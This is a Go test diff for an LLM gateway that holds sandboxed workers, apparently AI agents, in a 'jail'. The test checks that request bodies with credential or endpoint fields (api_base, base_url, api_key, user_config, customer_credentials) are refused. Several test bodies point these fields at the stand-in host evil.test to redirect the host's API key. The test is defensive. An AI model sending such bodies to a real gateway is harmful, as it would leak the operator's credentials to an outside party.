@@ -271,3 +271,60 @@ func TestGatewayFetchFieldsRefused(t *testing.T) {
 		}
 	}
 }
+
+// TestGatewayCredentialFieldsRefused: gateways that read credentials and endpoints from
+// the body (LiteLLM's client-side credentials: api_key, api_base, base_url, user_config;
+// Keywords AI's customer_credentials) would let the jail point the host's key at a URL it
+// names (LiteLLM merges api_base into the configured deployment, key included). Refused
+// 403 before the upstream has the body; controls: the same words as message text, and
+// "metadata" keys that merely contain them, reach the upstream byte for byte.
+func TestGatewayCredentialFieldsRefused(t *testing.T) {
+	var mu sync.Mutex
+	var got []string
+	h := newHarness(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, string(b))
+		mu.Unlock()
+		io.WriteString(w, `{"ok":true}`)
+	}), func(o *Options) { o.LLMRoutes = []string{"POST /chat/completions"} })
+	cert := h.workerCert("w1")
+	c := h.client(&cert)
+	for _, r := range []struct {
+		name, body string
+		ok         bool
+	}{
+		{"control: words as text", `{"model":"m","messages":[{"role":"user","content":"set api_base and base_url"}]}`, true},
+		{"control: nested metadata key", `{"model":"m","metadata":{"api_base":"x"},"messages":[]}`, true},
+		{"api_base", `{"model":"m","api_base":"https://evil.test/v1","messages":[]}`, false},
+		{"base_url", `{"model":"m","base_url":"https://evil.test/v1","messages":[]}`, false},
+		{"api_key", `{"model":"m","api_key":"sk-jail","messages":[]}`, false},
+		{"user_config", `{"model":"u","user_config":{"model_list":[{"model_name":"u","litellm_params":{"model":"gpt-4o","api_base":"https://evil.test"}}]},"messages":[]}`, false},
+		{"customer_credentials", `{"model":"m","customer_credentials":{"openai":{"api_key":"x"}},"messages":[]}`, false},
+		{"API_BASE upper case", `{"model":"m","API_BASE":"https://evil.test/v1"}`, false},
+	} {
+		mu.Lock()
+		before := len(got)
+		mu.Unlock()
+		req, _ := http.NewRequest("POST", h.url+"/llm/chat/completions", strings.NewReader(r.body))
+		req.Header.Set("Content-Type", "application/json")
+		resp, err := c.Do(req)
+		if err != nil {
+			t.Fatalf("%s: %v", r.name, err)
+		}
+		b, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		mu.Lock()
+		reached := len(got) > before && got[len(got)-1] == r.body
+		mu.Unlock()
+		if r.ok {
+			if resp.StatusCode != 200 || !reached {
+				t.Errorf("%s: %d %s, upstream got it intact: %v", r.name, resp.StatusCode, capText(string(b), 200), reached)
+			}
+			continue
+		}
+		if resp.StatusCode != 403 || !strings.Contains(string(b), "body_refused") || reached {
+			t.Errorf("%s: %d %s, upstream received the complete body: %v", r.name, resp.StatusCode, capText(string(b), 300), reached)
+		}
+	}
+}
